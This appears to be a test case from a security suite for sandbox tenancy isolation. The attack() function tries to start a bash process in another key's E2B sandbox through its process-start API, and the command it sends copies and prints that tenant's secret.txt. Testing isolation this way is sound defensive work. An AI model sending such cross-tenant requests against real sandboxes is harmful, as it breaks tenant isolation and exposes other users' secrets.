# aim: start a process in another key's sandbox
# mechanism: E2B's process service
# server: tenancy
# plain: owner

def attack():
    body = envelope(json.dumps({"process": {"cmd": "/bin/bash", "args": ["-l", "-c", "cat secret.txt > copied; cat secret.txt"]}}).encode())
    ask("POST", "/process.Process/Start", body, E2b_Sandbox_Id=theirs.sandbox, Content_Type="application/connect+json")


judge(attack)
